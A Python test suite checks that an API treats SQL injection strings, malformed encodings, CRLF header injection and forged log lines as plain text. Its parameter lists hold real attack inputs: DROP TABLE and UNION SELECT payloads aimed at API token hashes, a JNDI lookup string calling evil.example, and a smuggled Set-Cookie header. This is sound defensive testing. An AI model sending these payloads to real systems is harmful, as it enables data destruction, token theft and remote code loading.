"""Texts that try to become something else: SQL, log lines, headers."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from typing import Any, cast
from urllib.parse import quote
from uuid import uuid4

import asyncpg
import pytest

from tests.support.wire import Server, head, problem_of

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE tds_sync_queue; --",
    "' UNION SELECT token_hash FROM api_tokens --",
    "\\'; SELECT pg_sleep(60); --",
    "$$; SELECT pg_sleep(60); $$",
    "1) OR (1=1",
    "%",
    "_%",
    "*",
    ":name",
    "%s %(x)s {0}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
]
ODD = {
    "NUL": "%00",
    "NUL inside": "a%00b",
    "overlong": "%c0%af",
    "surrogate": "%ed%a0%80",
    "no UTF-8": "%ff%fe",
    "right to left": "%e2%80%aegnp",
    "line break": "a%0d%0aSet-Cookie:%20a=b",
    "noncharacter": "%ef%bf%bf",
    "beyond": "%f4%8f%bf%bf",
    "half a percent": "%",
    "only blanks": "%20%20",
    "very long": "a" * 5_000,
}


def _texts(document: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Each GET route with each of its text parameters, in the query or the path; the stream has its own test."""
    for path, operations in document["paths"].items():
        operation = operations.get("get", {})
        for parameter in operation.get("parameters", []):
            if parameter["in"] in ("query", "path") and not path.endswith("/stream"):
                yield path, parameter["name"]


def _targets(server: Server, text: str) -> Iterator[str]:
    """Every place of the API that takes a text, with this one in it."""
    for path, name in _texts(server.get("/openapi.json").json):
        inside = "{" + name + "}" in path
        filled = path.replace("{" + name + "}", text or "-")
        while "{" in filled:
            start, end = filled.index("{"), filled.index("}")
            filled = filled[:start] + str(uuid4()) + filled[end + 1 :]
        yield filled if inside else f"{filled}?{name}={text}"


KEPT = ("api_tokens", "tds_dead_letter_queue", "tds_jobs", "tds_pauses", "tds_sync_queue", "tds_sync_runs")


def _tables(url: str) -> dict[str, int | None]:
    """Which tables there are, and how many rows those have that nothing but a person changes here."""

    async def count() -> dict[str, int | None]:
        connection = await asyncpg.connect(url.replace("+asyncpg", ""))
        try:
            names = await connection.fetch(
                "SELECT relname FROM pg_class WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace"
            )
            return {row["relname"]: None for row in names} | {
                name: await connection.fetchval(f"SELECT count(*) FROM {name}") for name in KEPT
            }
        finally:
            await connection.close()

    return asyncio.run(count())


class TestSqlInjection:
    """In every text that the API takes."""

    @pytest.mark.parametrize("text", SQL)
    def test_a_text_stays_a_text(self, server: Server, attacked: tuple[Server, str], text: str) -> None:
        """It finds what is called so, which is nothing, or is refused; and changes nothing."""
        before = _tables(attacked[1])
        targets = list(zip(_targets(server, quote(text, safe="")), _targets(server, "unheard-of"), strict=True))
        assert len(targets) > 20
        for target, harmless in targets:
            answer = server.get(target)
            if answer.status == 200:
                assert _found(answer.json) == _found(server.get(harmless).json), (target, answer.body)
            else:
                problem_of(answer, 400, 404, 422)
        assert _tables(attacked[1]) == before


def _found(body: Any) -> int:
    """How many things an answer lists."""
    parts: list[Any] = [body] if isinstance(body, list) else list(body.values())
    return sum(len(cast("list[Any]", one)) for one in parts if isinstance(one, list))


class TestOddText:
    """In every text that the API takes."""

    @pytest.mark.parametrize("text", ODD.values(), ids=ODD)
    def test_is_refused_or_found_nowhere(self, server: Server, text: str) -> None:
        """Never a crash, and never a header of its own."""
        for target in _targets(server, text):
            answer = server.get(target)
            assert "set-cookie" not in answer.headers
            if answer.status != 200:
                problem_of(answer, 400, 404, 414, 422)

    def test_in_the_stream(self, server: Server) -> None:
        """Refused before it begins; what is no pattern of events is told so."""
        for text in (*ODD.values(), *(quote(one, safe="") for one in SQL if one != "*")):
            problem_of(server.get(f"/api/bff/tds/stream?types={text}"), 400, 422)
        for name in ("last_event_id=-1", "last_event_id=99999999999999999999", "last_event_id=a", "nothing=1"):
            problem_of(server.get(f"/api/bff/tds/stream?{name}"), 422)
        problem_of(server.get("/api/bff/tds/stream", "Last-Event-ID: 1; DROP TABLE event_log"), 422)


class TestLogInjection:
    """What a client says must not make log lines, nor anything look like one. `Server.log_lines` reads each as JSON."""

    FORGED = '{"event":"forged","level":"error"}'

    @pytest.mark.parametrize(
        "name", ["User-Agent", "X-Request-Id", "X-Forwarded-For", "Referer", "X-Actor", "Traceparent", "Last-Event-ID"]
    )
    @pytest.mark.parametrize("mark", ["\t", "%0a", "\\n", "\x85", "\u2028", "\x1b[2J"], ids=ascii)
    def test_in_a_header(self, server: Server, name: str, mark: str) -> None:
        """Neither raw, nor encoded, nor as what some readers take for a line's end."""
        server.get("/api/tds/runs", f"{name}: a{mark}{self.FORGED}".encode())
        server.get("/nowhere", f"{name}: a{mark}{self.FORGED}".encode())
        self._assert_not_forged(server)

    def test_in_a_path_a_query_and_a_source(self, server: Server) -> None:
        """Where the log tells of what was asked for."""
        forged = quote(f"a\n{self.FORGED}\r\n\x1b[31m", safe="")
        for target in (f"/{forged}", f"/api/tds/runs?source={forged}", f"/api/tds/webhooks/{forged}"):
            server.get(target)
            server.post(target, b"{}")
        self._assert_not_forged(server)

    def test_in_a_webhook(self, server: Server) -> None:
        """An unsigned one is refused, and what it says of itself is not believed."""
        body = b'{"event":"x\\n' + self.FORGED.encode().replace(b'"', b'\\"') + b'"}'
        answer = server.post("/api/tds/webhooks/zoho", body, "X-Zoho-Webhook-Signature: a")
        problem_of(answer, 401, 403)
        self._assert_not_forged(server)

    def _assert_not_forged(self, server: Server) -> None:
        assert [line for line in server.log_lines() if line["event"] == "forged"] == []


class TestRequestId:
    """The id that ties an answer to the log."""

    @pytest.mark.parametrize("given", ["a b", "<script>", "a" * 5_000, "../../a", "قميص", "a;b", ""])
    def test_an_odd_one_is_not_taken_over(self, server: Server, given: str) -> None:
        """It is made anew."""
        answer = server.get("/nowhere", f"X-Request-Id: {given}".encode())
        assert problem_of(answer, 404)["request_id"] != given

    def test_every_answer_has_one(self, server: Server) -> None:
        """Also the good ones, and no two the same."""
        ids = {server.exchange(head("GET", "/health/live")).headers["x-request-id"] for _ in range(5)}
        assert len(ids) == 5
